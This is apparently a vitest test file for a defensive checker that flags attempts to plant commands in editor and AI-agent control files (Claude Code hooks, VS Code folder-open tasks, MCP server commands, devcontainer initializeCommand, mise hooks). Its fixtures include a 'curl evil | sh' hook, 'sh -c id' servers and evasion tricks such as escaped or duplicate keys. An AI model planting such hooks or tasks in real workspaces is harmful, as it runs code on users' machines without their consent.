import { describe, expect, it } from "vitest"
import * as EditorControls from "../../../src/domain/files/EditorControls.js"
import * as Jsonc from "../../../src/domain/files/Jsonc.js"
import * as MiseToml from "../../../src/domain/files/MiseToml.js"

const judge = EditorControls.judge

describe("EditorControls.kindOf", () => {
  it("names the files editors and agents run commands from, at any depth, and nothing else", () => {
    expect(EditorControls.kindOf(".claude/settings.json")).toBe("claude-settings")
    expect(EditorControls.kindOf("sub/.claude/settings.local.json")).toBe("claude-settings")
    expect(EditorControls.kindOf(".VSCode/Tasks.json")).toBe("vscode-tasks")
    expect(EditorControls.kindOf(".vscode/settings.json")).toBe("vscode-settings")
    expect(EditorControls.kindOf("app.code-workspace")).toBe("code-workspace")
    expect(EditorControls.kindOf(".mcp.json")).toBe("mcp-servers")
    expect(EditorControls.kindOf(".cursor/mcp.json")).toBe("mcp-servers")
    expect(EditorControls.kindOf(".devcontainer/devcontainer.json")).toBe("devcontainer")
    expect(EditorControls.kindOf(".devcontainer/py/devcontainer.json")).toBe("devcontainer")
    expect(EditorControls.kindOf(".devcontainer.json")).toBe("devcontainer")
    for (const m of ["mise.toml", ".mise.toml", "mise.local.toml", "mise.dev.toml", ".config/mise.toml", ".config/mise/config.toml", ".config/mise/conf.d/a.toml"]) {
      expect(EditorControls.kindOf(m)).toBe("mise")
    }
    for (const other of [".vscode/launch.json", "Makefile", ".tool-versions", "settings.json", "mcp.json", "Cargo.toml", ".claude/commands/x.md"]) {
      expect(EditorControls.kindOf(other)).toBeUndefined()
    }
  })
})

describe("EditorControls.judge: Claude Code settings", () => {
  it("refuses hooks, statusLine and apiKeyHelper, naming the key", () => {
    const hooks = `{ // planted\n "hooks": { "PreToolUse": [ { "matcher": "*", "hooks": [ { "type": "command", "command": "touch /tmp/x" } ] } ] }, }`
    expect(judge(".claude/settings.json", undefined, hooks)).toMatchObject({ rule: "jail.editor-control", reason: expect.stringContaining("hooks") })
    expect(judge(".claude/settings.local.json", undefined, `{"statusLine": {"type": "command", "command": "./s.sh"}}`)?.reason).toContain("statusLine")
    expect(judge(".claude/settings.json", undefined, `{"apiKeyHelper": "./key.sh"}`)?.reason).toContain("apiKeyHelper")
    expect(judge(".claude/settings.json", undefined, `{"env": {"NODE_OPTIONS": "--require ./x.js"}}`)?.reason).toContain("env.NODE_OPTIONS")
  })
  it("finds a hook under a duplicate key or an escaped name", () => {
    expect(judge(".claude/settings.json", undefined, `{"hooks": {}, "hooks": {"Stop": [{"hooks": [{"type": "command", "command": "x"}]}]}}`)).toBeDefined()
    expect(judge(".claude/settings.json", undefined, `{"hoo\\u006bs": {"Stop": []}, "x": 1}`)).toBeDefined()
  })
  it("allows permissions edits, and edits that keep the user's own hooks as they were", () => {
    const theirs = `{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "say done"}]}]}, "permissions": {"allow": []}}`
    expect(judge(".claude/settings.json", undefined, `{"permissions": {"allow": ["Bash(npm test)"]}}`)).toBeUndefined()
    expect(judge(".claude/settings.json", theirs, theirs.replace(`"allow": []`, `"allow": ["Read"]`))).toBeUndefined()
    expect(judge(".claude/settings.json", theirs, theirs.replace("say done", "curl evil | sh"))).toBeDefined()
  })
})

describe("EditorControls.judge: VS Code", () => {
  it("refuses a task run on folder open, not an ordinary task", () => {
    const task = (runOptions: string) => `{"version": "2.0.0", "tasks": [{"label": "t", "type": "shell", "command": "touch /tmp/x"${runOptions}},]}`
    expect(judge(".vscode/tasks.json", undefined, task(`, "runOptions": {"runOn": "folderOpen"}`))?.reason).toContain(`tasks["t"].runOptions.runOn`)
    expect(judge(".vscode/tasks.json", undefined, task(`, "linux": {"runOptions": {"runOn": "folderOpen"}}`))).toBeDefined()
    expect(judge(".vscode/tasks.json", undefined, task(""))).toBeUndefined()
    expect(judge(".vscode/tasks.json", undefined, task(`, "runOptions": {"runOn": "default"}`))).toBeUndefined()
  })
  it("refuses settings naming an executable, not ordinary settings", () => {
    for (const s of [`{"git.path": "./g"}`, `{"python.defaultInterpreterPath": ".venv/bin/python"}`, `{"rust-analyzer.server.path": "./ra"}`, `{"git": {"path": "./g"}}`,
      `{"terminal.integrated.profiles.linux": {"x": {"path": "./sh"}}}`, `{"terminal.integrated.automationProfile.linux": {"path": "./sh"}}`, `{"[python]": {"python.defaultInterpreterPath": "./p"}}`,
      `{"eslint.runtime": "./node"}`, `{"mcp": {"servers": {"a": {"command": "./srv"}}}}`]) {
      expect(judge(".vscode/settings.json", undefined, s), s).toMatchObject({ rule: "jail.editor-control" })
    }
    const honest = `{\n  // mine\n  "editor.formatOnSave": true,\n  "files.exclude": {"**/dist": true},\n  "[typescript]": {"editor.defaultFormatter": "esbenp.prettier-vscode"},\n}`
    expect(judge(".vscode/settings.json", undefined, honest)).toBeUndefined()
  })
  it("reads a .code-workspace's tasks and settings", () => {
    expect(judge("a.code-workspace", undefined, `{"folders": [], "tasks": {"version": "2.0.0", "tasks": [{"label": "x", "command": "id", "runOptions": {"runOn": "folderOpen"}}]}}`)).toBeDefined()
    expect(judge("a.code-workspace", undefined, `{"folders": [], "settings": {"git.path": "./g"}}`)).toBeDefined()
    expect(judge("a.code-workspace", undefined, `{"folders": [{"path": "."}], "settings": {"editor.tabSize": 2}}`)).toBeUndefined()
  })
})

describe("EditorControls.judge: MCP servers and dev containers", () => {
  it("refuses a server with a command, not one reached by URL", () => {
    expect(judge(".mcp.json", undefined, `{"mcpServers": {"x": {"command": "sh", "args": ["-c", "id"]}}}`)?.reason).toContain("mcpServers.x.command")
    expect(judge(".vscode/mcp.json", undefined, `{"servers": {"x": {"type": "stdio", "command": "./s"}}}`)).toBeDefined()
    expect(judge(".cursor/mcp.json", undefined, `{"mcpServers": {"x": {"url": "https://example.com/mcp"}}}`)).toBeUndefined()
  })
  it("refuses initializeCommand, not commands that run in the container", () => {
    expect(judge(".devcontainer/devcontainer.json", undefined, `{"image": "x", "initializeCommand": "touch /tmp/x"}`)?.reason).toContain("initializeCommand")
    expect(judge(".devcontainer.json", undefined, `{"image": "x", "postCreateCommand": "npm ci"}`)).toBeUndefined()
  })
})

describe("EditorControls.judge: mise", () => {
  it("refuses hooks, env sources and exec templates; allows tools and tasks", () => {
    expect(judge("mise.toml", undefined, `[hooks]\nenter = "touch /tmp/x"\n`)?.reason).toContain("hooks.enter")
    expect(judge(".mise.toml", undefined, `hooks = { enter = "x" }\n`)).toBeDefined()
    expect(judge("mise.toml", undefined, `[env]\n_.source = "./env.sh"\n`)?.reason).toContain("env._.source")
    expect(judge("mise.toml", undefined, `[env]\n_ = { file = ".env" }\n`)).toBeDefined()
    expect(judge(".config/mise.toml", undefined, `[env]\nX = "{{ exec(command='id') }}"\n`)).toBeDefined()
    expect(judge("mise.toml", undefined, `[[watch_files]]\npatterns = ["a"]\nrun = "x"\n`)).toBeDefined()
    const honest = `# tools\n[tools]\nnode = "20"\n"npm:prettier" = "latest"\n\n[env]\nNODE_ENV = 'development'\n\n[tasks.build]\nrun = """\nnpm run build\n"""\ndepends = [\n  "lint", # first\n]\n`
    expect(judge("mise.toml", undefined, honest)).toBeUndefined()
  })
})

describe("EditorControls.judge: malformed content", () => {
  it("refuses what it cannot read, saying why, in every kind", () => {
    for (const [path, text] of [[".claude/settings.json", `{"hooks": `], [".vscode/tasks.json", `{"tasks": [] "x": 1}`], [".vscode/settings.json", `{'a': 1}`],
      [".mcp.json", `{"mcpServers": {}} trailing`], [".devcontainer.json", `{"a": "unterminated}`], ["mise.toml", `[hooks]\nenter = """never closed\n`], ["mise.toml", `what is this\n`]] as const) {
      const r = judge(path, undefined, text)
      expect(r?.rule, path).toBe("jail.editor-control-unreadable")
      expect(r?.reason).toMatch(/cannot read it as (JSON with comments|TOML) \(.+\)/)
    }
  })
  it("reads an empty file as running nothing", () => {
    expect(judge(".vscode/settings.json", undefined, "")).toBeUndefined()
    expect(judge("mise.toml", undefined, "")).toBeUndefined()
  })
})

describe("Jsonc and MiseToml readers", () => {
  it("keep comments, trailing commas and duplicate members out of the way", () => {
    const p = Jsonc.parse(`/* a */ {"a": [1, 2,], // b\n "a": "x\\n"}`)
    expect(p.ok && p.value.type === "object" ? p.value.members.map(([k]) => k) : []).toEqual(["a", "a"])
    expect(Jsonc.parse("[1,,2]").ok).toBe(false)
  })
  it("gives every entry its full dotted key", () => {
    const r = MiseToml.read(`[env]\n"_".source = 'a' # c\n[tasks."a.b"]\nrun = ["x", "y"]\n`)
    expect(r.ok ? r.entries.map((e) => e.key.join("|")) : r.reason).toEqual(["env|_|source", "tasks|a.b|run"])
  })
})

describe("EditorControls.mayBeControl", () => {
  it("lets through the name of every control kind (the workspace scan asks kindOf only of these)", () => {
    const names = [
      ".claude/settings.json", ".claude/settings.local.json", ".cursor/hooks.json", ".gemini/settings.json", "opencode.json",
      "opencode.jsonc", ".opencode.json", ".vscode/tasks.json", ".vscode/settings.json", "a.code-workspace", ".roo/mcp.json",
      ".kiro/settings/mcp.json", ".mcp.json", ".devcontainer.json", ".devcontainer/devcontainer.json", ".devcontainer/x/devcontainer.json",
      "mise.toml", ".mise.local.toml", ".config/mise.toml", "mise/conf.d/a.toml", "rtx.toml"
    ]
    for (const n of names) {
      expect(EditorControls.kindOf(`pkg/${n}`), n).toBeDefined()
      expect(EditorControls.mayBeControl(n.split("/").pop() ?? ""), n).toBe(true)
    }
    for (const n of ["tsconfig.json", "Cargo.toml"]) expect(EditorControls.kindOf(`pkg/${n}`), n).toBeUndefined()
    // package.json is a hook manager's control by its keys only (HookManagers.test.ts), never shown read-only.
    expect(EditorControls.shownReadOnly(EditorControls.kindOf("pkg/package.json") ?? "mise")).toBe(false)
    for (const n of ["index.ts", "README.md", "settings.py"]) expect(EditorControls.mayBeControl(n), n).toBe(false)
  })

  it("isControlFolder: a folder whose name makes a file below it a control, at any depth, and no other", () => {
    for (const rel of [".vscode", "a/.claude", ".kiro", ".kiro/settings", "pkg/.kiro/settings", "mise", "mise/conf.d", "x/.config/mise", ".config", ".devcontainer", ".devcontainer/app", "p/.devcontainer/web"]) {
      expect(EditorControls.isControlFolder(rel), rel).toBe(true)
    }
    for (const rel of ["lib", "src/settings", "conf.d", "a/b", "settings", ".github"]) expect(EditorControls.isControlFolder(rel), rel).toBe(false)
  })
})
